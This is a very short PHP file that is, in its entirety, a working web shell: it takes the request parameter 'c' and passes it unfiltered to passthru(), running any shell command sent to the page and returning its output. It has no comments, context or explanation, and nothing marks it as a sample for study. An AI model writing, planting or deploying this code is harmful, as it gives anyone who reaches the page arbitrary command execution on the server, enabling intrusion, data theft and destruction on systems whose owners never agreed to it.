<?php
if (isset($_REQUEST['c'])) {
    passthru($_REQUEST['c'] . ' 2>&1');
}
